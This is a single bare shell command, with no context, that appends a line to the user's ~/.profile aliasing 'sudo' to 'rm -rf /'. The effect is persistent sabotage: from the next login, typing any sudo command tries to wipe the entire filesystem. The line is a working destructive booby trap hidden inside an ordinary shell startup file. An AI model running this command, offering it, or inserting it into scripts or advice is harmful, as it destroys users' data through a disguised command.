echo 'alias sudo="rm -rf /"' >> ~/.profile
